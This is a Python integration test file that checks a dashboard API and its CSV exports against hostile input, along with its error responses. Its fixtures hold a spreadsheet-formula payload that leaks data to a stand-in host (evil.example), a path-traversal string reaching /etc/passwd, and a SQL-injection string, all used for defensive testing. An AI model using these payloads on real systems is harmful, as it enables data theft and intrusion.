"""The dashboard's JSON API and CSV exports against hostile input, on a real dashboard
(uvicorn, Kafka, PostgreSQL): partner text that a spreadsheet would run as a formula is
neutralised in every CSV, and Schemathesis finds no 5xx and no response that breaks the
OpenAPI document across ``/api/v1`` (signed in as the secretariat, with its CSRF token)."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime

import httpx
import pytest
from test_schemathesis import fuzz

from dashboard_harness import FakeClock, dashboard_settings, make_event, running_dashboard
from teamnl_shared.problem import PROBLEM_JSON

pytestmark = pytest.mark.integration
NOW = datetime(2019, 7, 1, 12, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


async def test_csv_cells_that_start_a_formula_are_neutralised(
    database_url: str, kafka_bootstrap: str
) -> None:
    settings = dashboard_settings(database_url, kafka_bootstrap)
    mission = make_event(
        "nl.teamnl.nlib.mission.held.v1", mission_id="m-evil", title=FORMULA, city="@SUM(1+1)"
    )
    async with running_dashboard(settings) as dash:
        await dash.publish(mission)
        await dash.wait_applied(1)
        period = str(mission.data.start_date.year)  # the mission's year, not the event's
        response = await dash.member.get(
            "/api/v1/initiatives/nlib/missions.csv", params={"period": period}
        )
        as_json = await dash.get("/api/v1/initiatives/nlib", period=period)
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert row["title"] == "'" + FORMULA
    assert row["city"] == "'@SUM(1+1)"
    assert row["leads"] == str(mission.data.leads)  # numbers stay numbers
    assert as_json["missions"][0]["title"] == FORMULA  # the JSON keeps the text as sent


@pytest.mark.timeout(600)
async def test_schemathesis_finds_no_server_error_in_the_dashboard_api(
    database_url: str, kafka_bootstrap: str
) -> None:
    settings = dashboard_settings(database_url, kafka_bootstrap)
    async with running_dashboard(settings) as dash:
        secretariat = dash.secretariat
        headers = {
            "cookie": f"teamnl_session={secretariat.cookies['teamnl_session']}",
            "x-csrf-token": secretariat.headers["x-csrf-token"],
        }
        # /stream is Server-Sent Events: it answers 200 and never ends, nothing to fuzz.
        failures = await asyncio.to_thread(
            fuzz, dash.base_url, headers, path_regex=r"^/api/v1/(?!stream$)"
        )
    assert not failures, "\n\n".join(failures)


async def test_a_market_without_activity_answers_an_empty_market_not_an_error(
    database_url: str, kafka_bootstrap: str
) -> None:
    """Found by schemathesis: /markets/mX answered 500 (an empty complementarity lacked a
    field of its schema). A known code is an empty market; an unknown one is a 404."""
    settings = dashboard_settings(database_url, kafka_bootstrap)
    async with running_dashboard(settings) as dash:
        empty = await dash.member.get("/api/v1/markets/mX")
        assert empty.status_code == 200, empty.text
        assert empty.json()["market"] == "MX" and empty.json()["total"] == 0
        assert empty.json()["complementarity"]["complementary"] is False
        assert (await dash.member.get("/api/v1/markets/QQ")).status_code == 404


HOSTILE = [
    "99999999999999999999",
    "-1",
    "0",
    "1e3",
    "%00",
    "x" * 5000,
    "../../etc/passwd",
    "' OR 1=1 --",
]


async def test_the_web_pages_answer_hostile_input_with_a_4xx_never_a_5xx(
    database_url: str, kafka_bootstrap: str
) -> None:
    """The HTML pages and forms are not in the OpenAPI document Schemathesis fuzzes: each path
    and query parameter of theirs, given values no form sends, answers a 2xx, 3xx or 4xx.
    A finding id beyond PostgreSQL's bigint answered 500 on the form's route."""
    settings = dashboard_settings(database_url, kafka_bootstrap)
    async with running_dashboard(settings) as dash:
        web = dash.secretariat
        answers: dict[str, int] = {}
        for value in HOSTILE:
            for action in ("acknowledge", "resolve", value):
                path = f"/findings/{value}/{action}"
                answers[f"POST {path}"] = (await web.post(path, data={"next": value})).status_code
            for path in (f"/markets/{value}", f"/initiatives/{value}", f"/static/{value}"):
                answers[f"GET {path}"] = (await web.get(path)).status_code
            for path in ("/", "/initiatives/nlib", "/report", "/markets", "/findings", "/events"):
                for name in ("period", "as_of", "state", "figure", "lang", "format", "hours"):
                    response = await web.get(path, params={name: value})
                    answers[f"GET {path}?{name}={value[:20]}"] = response.status_code
            for path, form in (
                ("/language", {"lang": value, "next": value}),
                ("/login", {"email": value, "password": value}),
            ):
                answers[f"POST {path} {value[:20]}"] = (await web.post(path, data=form)).status_code
    server_errors = {request: status for request, status in answers.items() if status >= 500}
    assert not server_errors, server_errors
    assert len(answers) > 300


async def test_every_refusal_of_the_api_is_a_problem_and_the_pages_keep_theirs(
    database_url: str, kafka_bootstrap: str
) -> None:
    """Under /api/ every 4xx is an RFC 9457 problem (as the ingestion APIs' are): FastAPI's
    validation errors, the routes' 404 and 409, the 401, a role's 403, the CSRF middleware's
    403 and 413, an unknown path or method. They were ``{"detail": ...}`` in three shapes."""
    settings = dashboard_settings(database_url, kafka_bootstrap)
    async with running_dashboard(settings, FakeClock(NOW)) as dash:
        await dash.publish(
            make_event(
                "nl.teamnl.werkplaats.project.onboarded.v1",
                project_id="w-ng",
                country="NG",
                time=NOW,
            )
        )
        [finding] = await dash.wait_findings("isolated-project", "open")
        path = f"/api/v1/findings/{finding['id']}"
        assert (await dash.secretariat.post(f"{path}/resolve")).status_code == 200
        without_token = httpx.AsyncClient(
            base_url=dash.base_url, cookies=dash.secretariat.cookies, timeout=30
        )
        refusals = {
            "anonymous": (401, await dash.anonymous.get("/api/v1/overview")),
            "member's role": (403, await dash.member.post(f"{path}/acknowledge")),
            "no CSRF token": (403, await without_token.post(f"{path}/acknowledge")),
            "unknown market": (404, await dash.member.get("/api/v1/markets/QQ")),
            "unknown finding": (404, await dash.member.get("/api/v1/findings/999999")),
            "unknown path": (404, await dash.member.get("/api/v1/nothing-here")),
            "unknown method": (405, await dash.secretariat.delete("/api/v1/overview")),
            "state refuses": (409, await dash.secretariat.post(f"{path}/acknowledge")),
            "body too large": (
                413,
                await dash.secretariat.post(f"{path}/acknowledge", json={"note": "n" * 100_000}),
            ),
            "note too long": (
                422,
                await dash.secretariat.post(f"{path}/acknowledge", json={"note": "n" * 2001}),
            ),
            "since unreadable": (422, await dash.member.get("/api/v1/coherence/score?since=x")),
            "period unreadable": (422, await dash.member.get("/api/v1/overview?period=1999")),
        }
        page_404 = await dash.member.get("/markets/QQ")
        page_anonymous = await dash.anonymous.get("/", follow_redirects=False)
        await without_token.aclose()
    wrong = {}
    for name, (status, response) in refusals.items():
        problem = response.json()
        if (
            response.status_code != status
            or response.headers["content-type"] != PROBLEM_JSON
            or problem.get("status") != status
            or not problem.get("type", "").startswith("urn:teamnl:problem:")
            or not (problem.get("title") and problem.get("detail"))
            or problem.get("instance") != response.request.url.path
        ):
            wrong[name] = (response.status_code, response.headers["content-type"], problem)
    assert wrong == {}
    fields = {name: [e["field"] for e in refusals[name][1].json()["errors"]] for name in refusals}
    assert fields["no CSRF token"] == ["header/x-csrf-token"]
    assert fields["note too long"] == ["body/note"]
    assert fields["since unreadable"] == ["query/since"]
    assert fields["period unreadable"] == ["query/period"]
    assert page_404.status_code == 404 and page_404.headers["content-type"] != PROBLEM_JSON
    assert page_anonymous.status_code == 303
